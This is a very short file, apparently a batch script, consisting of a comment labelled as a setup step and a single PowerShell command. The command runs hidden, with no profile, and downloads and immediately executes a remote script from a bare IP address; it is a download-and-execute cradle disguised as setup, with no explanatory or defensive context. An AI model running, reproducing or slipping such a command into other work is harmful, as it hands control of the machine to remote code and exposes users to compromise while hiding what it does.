REM setup 1496 v1
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/a.ps1')"
